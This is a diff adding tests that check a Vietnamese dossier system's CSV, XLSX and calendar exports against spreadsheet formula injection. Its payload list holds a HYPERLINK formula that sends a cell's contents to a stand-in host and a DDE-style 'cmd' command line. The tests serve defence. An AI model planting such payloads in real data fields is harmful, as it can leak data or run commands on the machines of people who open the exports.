@@ -116,5 +116,102 @@ def test_late_list(s):
         assert c["A1"] == "Danh sách hồ sơ quá hạn" and c["A5"] == late and c["F5"] == 3 and c["C5"] == "Bế Văn Trễ", c
 
 
+# Names a spreadsheet would run as formulas (OWASP "CSV injection"); a leading tab or CR may be trimmed
+# by the API, which leaves a "=" in front all the same.
+FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"bấm")', "+84 912 (cmd)", "-2+3+cmd|' /C calc'!A0",
+            "@SUM(1+1)*cmd", "\t=1+1 tab", "\r=1+1 cr", "＝1+1 toàn khổ"]
+TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
+
+
+def test_late_exports_keep_formulas_inert(s):
+    with harness.clock_server("2026-03-02T09:00:00+07:00") as s:
+        rcv = s.login("tiepnhan.thucphan")
+        codes = {}
+        for i, name in enumerate(FORMULAS):
+            body = {"procedure": PROC, "applicant": {"name": name, "id_number": "0041900099%02d" % i,
+                                                     "phone": "09870009%02d" % i}, "documents": [4, 6],
+                    "outcome": "accept"}
+            r = s.post("/api/v1/dossiers", body, token=rcv)
+            if name[0] in "\t\r" and r.status == 400:
+                continue  # refused outright: it cannot reach an export
+            assert r.status == 201, r
+            codes[r.json()["code"]] = name
+        assert len(codes) >= 5, codes
+        s.clock.set("2026-03-06T10:00:00+07:00")
+        sup = s.login("giamsat")
+        rep = s.get("/api/v1/reports/late?unit=04", token=sup).json()
+        stored = {i["code"]: i["applicant"] for i in rep["items"]}
+        assert set(codes) <= set(stored), (codes, stored)
+        for code, name in codes.items():
+            assert stored[code] in (name, name.strip()), (stored[code], name)
+            assert stored[code].startswith(TRIGGERS), stored[code]
+
+        # CSV: every text cell inside double quotes, a formula behind a single quote; the count bare.
+        body = s.get("/api/v1/reports/late.csv?unit=04", token=sup).body[3:].decode("utf-8")
+        lines = body.split("\r\n")
+        for code, name in codes.items():
+            want = '"\'' + stored[code].replace('"', '""') + '"'
+            line = next(ln for ln in lines if ln.startswith('"%s",' % code))
+            assert ("," + want + ",") in line, (want, line)
+        assert re.search(r',"[^"]*",3,', body), "the day count is a bare number"
+        for row in csv.reader(io.StringIO(body, newline="")):
+            for v in row:
+                assert not v.startswith(TRIGGERS), ("a cell a spreadsheet would run", v, row)
+        rows = {r[0]: r for r in csv.reader(io.StringIO(body, newline=""))}
+        for code in codes:
+            assert rows[code][2] == "'" + stored[code], rows[code]
+
+        # XLSX: the names are string cells, with no formula anywhere in the sheet.
+        x = s.get("/api/v1/reports/late.xlsx?unit=04", token=sup).body
+        z = zipfile.ZipFile(io.BytesIO(x))
+        sheet_xml = z.read("xl/worksheets/sheet1.xml")
+        assert b"<f>" not in sheet_xml and b"<f " not in sheet_xml, "no formula cell"
+        sheet = ET.fromstring(sheet_xml)
+        c, _ = cells(x)
+        kinds = {e.get("r"): e.get("t") for e in sheet.iter("{%s}c" % NS["m"])}
+        found = {}
+        for ref, v in c.items():
+            if ref.startswith("A") and v in codes:
+                found[v] = "C" + ref[1:]
+        assert set(found) == set(codes), (found, codes)
+        for code, ref in found.items():
+            assert kinds[ref] in ("s", "inlineStr"), (ref, kinds[ref])  # a string, not "str" (a formula's result)
+            assert c[ref] == stored[code], (c[ref], stored[code])
+
+
+def test_processing_csv_quotes_every_text_cell(s):
+    sup = s.login("giamsat")
+    body = s.get("/api/v1/stats/processing.csv?unit=04&group=procedure", token=sup).body[3:].decode("utf-8")
+    lines = body.split("\r\n")
+    assert lines[-1] == "" and len(lines) > 3, lines
+    assert re.fullmatch(r'"([^"]|"")*"(,"([^"]|"")*"){13}', lines[0]), lines[0]
+    for line in lines[1:-1]:
+        # two text cells, then twelve bare counts
+        assert re.fullmatch(r'"([^"]|"")*","([^"]|"")*"(,-?[0-9]+){12}', line), line
+
+
+def test_calendar_export_guards_and_reads_back(s):
+    # The calendar's CSV is edited in a spreadsheet and imported again: the guard quote comes off on import.
+    admin = s.login("admin")
+    names = {"2027-03-10": "=1+1 (thử)", "2027-03-11": "'trích dẫn", "2027-03-12": "-Ngày \"thử\""}
+    for day, name in names.items():
+        r = s.request("PUT", "/api/v1/calendar/exceptions/" + day, {"kind": "off", "name": name,
+                                                                    "source": "@nguồn"}, token=admin)
+        assert r.status == 200, r
+    out = harness.run_cli("calendar", "export", "-", db=s.db).stdout
+    assert '"2027-03-10","off","\'=1+1 (thử)","\'@nguồn"' in out, out[-400:]
+    assert '"2027-03-11","off","\'\'trích dẫn","\'@nguồn"' in out, out[-400:]
+    assert '"2027-03-12","off","\'-Ngày ""thử""","\'@nguồn"' in out, out[-400:]
+    for row in csv.reader(io.StringIO(out, newline="")):
+        assert not any(v.startswith(TRIGGERS) for v in row), row
+    for day in names:
+        assert s.request("DELETE", "/api/v1/calendar/exceptions/" + day, token=admin).status == 200
+    r = s.request("POST", "/api/v1/calendar/import", raw=out.encode("utf-8"), ctype="text/csv", token=admin)
+    assert r.status == 200, r
+    got = {h["date"]: (h["name"], h.get("source")) for h in s.get("/api/v1/calendar/holidays?year=2027").json()["days"]
+           if h["date"] in names}
+    assert got == {d: (n, "@nguồn") for d, n in names.items()}, got
+
+
 if __name__ == "__main__":
     harness.main(globals())
